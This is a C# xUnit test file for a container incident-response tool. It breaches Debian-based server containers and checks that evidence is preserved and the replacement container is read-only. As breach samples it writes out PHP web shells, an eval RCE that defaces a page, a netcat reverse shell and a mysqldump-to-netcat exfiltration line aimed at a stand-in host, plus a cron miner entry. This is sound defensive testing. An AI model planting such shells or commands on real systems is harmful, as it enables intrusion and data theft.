using System.Net.Sockets;
using System.Text.Json;
using DockerIR.Core.Case;
using DockerIR.Testing;
using Xunit.Abstractions;

namespace DockerIR.Cli.Tests;

/// <summary>
/// `respond --yes` on real server stacks from Debian's packages (the corpus), each run the way its users run it and
/// breached where it could write: the bundle verifies and holds the dropped file; the replacement is read-only, from the
/// original image, serves, still reaches its dependency, refuses the attacker's write; and `docker inspect` before and
/// after differs only in the fields the plan lists. No path is given by hand.
/// </summary>
public sealed class CorpusTests(ServerCorpus corpus, ITestOutputHelper output) : IClassFixture<ServerCorpus>, IDisposable
{
    private readonly string workDir = Directory.CreateTempSubdirectory("dockerir-cli-corpus-").FullName;

    /// <summary>What a stack's respond showed.</summary>
    private sealed record Responded(JsonElement Before, JsonElement After, JsonElement Plan, string Bundle);

    private async Task<Responded> RespondAsync(string name, string probe, string? expect = null)
    {
        output.WriteLine($"corpus: {corpus.Timings}");
        var before = await InspectComparison.InspectAsync(name);
        string[] args = ["respond", name, "--out-dir", Path.Combine(workDir, name), "--yes", "--probe", probe, "--probe-timeout", "60", "--json"];
        var result = await ProcessRunner.DockerIRAsync(expect is null ? args : [.. args, "--probe-expect", expect], timeout: TimeSpan.FromMinutes(8));
        output.WriteLine(result.StdErr);
        CliAssert.Success(result);
        var summary = JsonDocument.Parse(result.StdOut).RootElement;
        var caseDir = summary.GetProperty("caseDir").GetString()!;
        var after = await InspectComparison.InspectAsync(name);
        var plan = JsonDocument.Parse(await File.ReadAllTextAsync(Path.Combine(caseDir, RedeployPlan.FileName))).RootElement.Clone();
        output.WriteLine("writable: " + string.Join(", ", plan.GetProperty("writable").EnumerateArray().Select(w => $"{w.GetProperty("path").GetString()} ({w.GetProperty("kind").GetString()})")));

        // The replacement: read-only, the original image, running, and nothing else changed than the plan says.
        Assert.NotEqual(before.GetProperty("Id").GetString(), after.GetProperty("Id").GetString());
        Assert.Equal(before.GetProperty("Image").GetString(), after.GetProperty("Image").GetString());
        Assert.True(after.GetProperty("HostConfig").GetProperty("ReadonlyRootfs").GetBoolean());
        Assert.True(after.GetProperty("State").GetProperty("Running").GetBoolean());
        InspectComparison.OnlyPlanned(before, after, plan);
        var custody = await File.ReadAllTextAsync(Path.Combine(caseDir, "custody.jsonl"));
        Assert.True(custody.IndexOf("\"action\":\"replacement.preflight\"", StringComparison.Ordinal) < custody.IndexOf("\"action\":\"container.kill\"", StringComparison.Ordinal));
        return new Responded(before, after, plan, summary.GetProperty("bundlePath").GetString()!);
    }

    /// <summary>The bundle verifies and holds the dropped file with what the attacker wrote.</summary>
    private static async Task BundleHoldsAsync(string bundle, string path, string content)
    {
        CliAssert.Success(await ProcessRunner.DockerIRAsync(["verify", bundle]));
        var shown = await ProcessRunner.DockerIRAsync(["show", bundle, path]);
        CliAssert.Success(shown);
        Assert.Contains(content, shown.StdOut, StringComparison.Ordinal);
    }

    /// <summary>The attacker's same write, tried in the replacement, fails on the read-only root.</summary>
    private static async Task WriteFailsAsync(string container, string path)
    {
        var attempt = await ProcessRunner.DockerAsync("exec", "-u", "0", container, "sh", "-c", $"echo again > {path}");
        Assert.NotEqual(0, attempt.ExitCode);
        Assert.Contains("Read-only file system", attempt.StdErr, StringComparison.Ordinal);
    }

    private static async Task DropAsync(string container, string path, string content) =>
        await ServerCorpus.Docker("exec", "-u", "0", container, "sh", "-c", $"printf '%s' '{content}' > {path}");

    [Fact]
    public async Task Respond_ApacheModPhpWithALinkedDatabase_ComesBackReadOnlyServingAndLinked()
    {
        var db = await corpus.RunAsync("apache-db", corpus.Image(ServerCorpus.Redis));
        var app = await corpus.RunAsync("apache", "-p", "127.0.0.1::80", "--link", $"{db}:db", corpus.Image(ServerCorpus.ApachePhp));
        var port = await ServerCorpus.HostPortAsync(app, "80/tcp");
        await corpus.WaitUntilServingAsync(port, "/db.php", "DB OK", app);
        // The breach: the PHP eval RCE writes a web shell and defaces the front page.
        const string Shell = "<?php system($_GET[\"x\"]); ?>";
        var rce = Uri.EscapeDataString($"file_put_contents('/var/www/html/shell.php', '{Shell}'); file_put_contents('/var/www/html/index.html', 'HACKED');");
        await corpus.Http.GetStringAsync(new Uri($"http://127.0.0.1:{port}/vuln.php?c={rce}"));
        Assert.Equal("HACKED", await corpus.Http.GetStringAsync(new Uri($"http://127.0.0.1:{port}/")));

        var r = await RespondAsync(app, $"http://127.0.0.1:{port}/db.php", "DB OK");

        await BundleHoldsAsync(r.Bundle, "/var/www/html/shell.php", Shell);
        Assert.Contains("Corpus shop", await corpus.Http.GetStringAsync(new Uri($"http://127.0.0.1:{port}/")), StringComparison.Ordinal);
        Assert.Equal("DB OK", await corpus.Http.GetStringAsync(new Uri($"http://127.0.0.1:{port}/db.php")));
        var again = await corpus.Http.GetStringAsync(new Uri($"http://127.0.0.1:{port}/vuln.php?c={rce}"));
        Assert.Contains("Read-only file system", again, StringComparison.Ordinal);
        Assert.Equal(r.Before.GetProperty("HostConfig").GetProperty("Links").GetRawText(), r.After.GetProperty("HostConfig").GetProperty("Links").GetRawText());
    }

    [Fact]
    public async Task Respond_NginxAndPhpFpmOnAUnixSocket_ComesBackReadOnlyAndServingPhp()
    {
        var app = await corpus.RunAsync("nginx", "-p", "127.0.0.1::80", corpus.Image(ServerCorpus.NginxPhpFpm));
        var port = await ServerCorpus.HostPortAsync(app, "80/tcp");
        await corpus.WaitUntilServingAsync(port, "/index.php", "PHP OK", app);
        await DropAsync(app, "/var/www/html/shell.php", "<?php passthru($_GET[1]); ?>");

        var r = await RespondAsync(app, $"http://127.0.0.1:{port}/index.php", "PHP OK");

        await BundleHoldsAsync(r.Bundle, "/var/www/html/shell.php", "passthru");
        Assert.Contains("PHP OK", await corpus.Http.GetStringAsync(new Uri($"http://127.0.0.1:{port}/index.php")), StringComparison.Ordinal);
        await WriteFailsAsync(app, "/var/www/html/shell.php");
    }

    [Fact]
    public async Task Respond_PostgresWithItsDataOnANamedVolume_ComesBackWithTheSameData()
    {
        var volume = await corpus.VolumeAsync("pgdata");
        var db = await corpus.RunAsync("postgres", "-p", "127.0.0.1::5432", "-v", $"{volume}:/var/lib/postgresql/data", corpus.Image(ServerCorpus.Postgres));
        var port = await ServerCorpus.HostPortAsync(db, "5432/tcp");
        await corpus.WaitUntilServingAsync(port, null, null, db);
        await PsqlAsync(db, "CREATE TABLE IF NOT EXISTS orders (id int); INSERT INTO orders VALUES (42);");
        await DropAsync(db, "/usr/local/bin/kworkerd", "#!/bin/sh\\nnc -e /bin/sh 203.0.113.7 4444\\n");

        var r = await RespondAsync(db, $"tcp:127.0.0.1:{port}");

        await BundleHoldsAsync(r.Bundle, "/usr/local/bin/kworkerd", "203.0.113.7");
        Assert.Contains("42", await PsqlAsync(db, "SELECT id FROM orders;"), StringComparison.Ordinal);
        await WriteFailsAsync(db, "/usr/local/bin/kworkerd");
    }

    [Fact]
    public async Task Respond_Redis_ComesBackReadOnlyWithItsDataVolume()
    {
        var db = await corpus.RunAsync("redis", "-p", "127.0.0.1::6379", corpus.Image(ServerCorpus.Redis));
        var port = await ServerCorpus.HostPortAsync(db, "6379/tcp");
        await corpus.WaitUntilServingAsync(port, null, null, db);
        await ExecUntilAsync(db, "PONG", "redis-cli", "PING");
        await ServerCorpus.Docker("exec", db, "sh", "-c", "redis-cli SET answer 42 && redis-cli SAVE");
        await DropAsync(db, "/etc/cron.d/miner", "* * * * * root /tmp/xmrig\\n");

        var r = await RespondAsync(db, $"tcp:127.0.0.1:{port}");

        await BundleHoldsAsync(r.Bundle, "/etc/cron.d/miner", "xmrig");
        Assert.Contains("42", await ServerCorpus.Docker("exec", db, "redis-cli", "GET", "answer"), StringComparison.Ordinal);
        await WriteFailsAsync(db, "/etc/cron.d/miner");
    }

    [Fact]
    public async Task Respond_MariaDbOnAUserDefinedNetwork_TheAppStillReachesItByItsAlias()
    {
        var network = await corpus.NetworkAsync("shop");
        var volume = await corpus.VolumeAsync("mysql");
        var db = await corpus.RunAsync("mariadb", "--network", network, "--network-alias", "db", "-p", "127.0.0.1::3306", "-v", $"{volume}:/var/lib/mysql", corpus.Image(ServerCorpus.MariaDb));
        var app = await corpus.RunAsync("shop-app", "--network", network, "-p", "127.0.0.1::8000", corpus.Image(ServerCorpus.PythonGunicorn));
        var dbPort = await ServerCorpus.HostPortAsync(db, "3306/tcp");
        var appPort = await ServerCorpus.HostPortAsync(app, "8000/tcp");
        await corpus.WaitUntilServingAsync(appPort, "/db", "DB OK", app);
        await DropAsync(db, "/usr/local/bin/.dbdump", "#!/bin/sh\\nmysqldump --all-databases | nc 203.0.113.7 443\\n");

        var r = await RespondAsync(db, $"tcp:127.0.0.1:{dbPort}");

        await BundleHoldsAsync(r.Bundle, "/usr/local/bin/.dbdump", "mysqldump");
        await corpus.WaitUntilServingAsync(appPort, "/db", "DB OK", app);
        await WriteFailsAsync(db, "/usr/local/bin/.dbdump");
        Assert.Contains("db", r.After.GetProperty("NetworkSettings").GetProperty("Networks").GetProperty(network).GetProperty("Aliases").EnumerateArray().Select(a => a.GetString()));
    }

    [Fact]
    public async Task Respond_PythonAppUnderGunicorn_ComesBackServingAndReachingItsDatabase()
    {
        var network = await corpus.NetworkAsync("py");
        var db = await corpus.RunAsync("py-db", "--network", network, "--network-alias", "db", corpus.Image(ServerCorpus.MariaDb));
        var app = await corpus.RunAsync("py-app", "--network", network, "-p", "127.0.0.1::8000", corpus.Image(ServerCorpus.PythonGunicorn));
        var port = await ServerCorpus.HostPortAsync(app, "8000/tcp");
        await corpus.WaitUntilServingAsync(port, "/db", "DB OK", app);
        await DropAsync(app, "/srv/app/backdoor.py", "import os; os.system(\"id\")");

        var r = await RespondAsync(app, $"http://127.0.0.1:{port}/db", "DB OK");

        await BundleHoldsAsync(r.Bundle, "/srv/app/backdoor.py", "os.system");
        Assert.Equal("DB OK", await corpus.Http.GetStringAsync(new Uri($"http://127.0.0.1:{port}/db")));
        await WriteFailsAsync(app, "/srv/app/backdoor.py");
    }

    private static Task<string> PsqlAsync(string container, string sql) =>
        ExecUntilAsync(container, null, "psql", "-U", "postgres", "-h", "127.0.0.1", "-tAc", sql);

    /// <summary>Runs a command in a container until it succeeds (and prints <paramref name="expect"/>), for up to a minute: a server may still be starting.</summary>
    private static async Task<string> ExecUntilAsync(string container, string? expect, params string[] command)
    {
        for (var attempt = 0; ; attempt++)
        {
            var result = await ProcessRunner.DockerAsync(["exec", container, .. command]);
            var done = result.ExitCode == 0 && (expect is null || result.StdOut.Contains(expect, StringComparison.Ordinal));
            if (done || attempt >= 120)
            {
                Assert.True(done, $"{string.Join(' ', command)} in {container}: exit {result.ExitCode}, {result.StdOut} {result.StdErr}");
                return result.StdOut;
            }

            await Task.Delay(500);
        }
    }

    public void Dispose() => Directory.Delete(workDir, recursive: true);
}
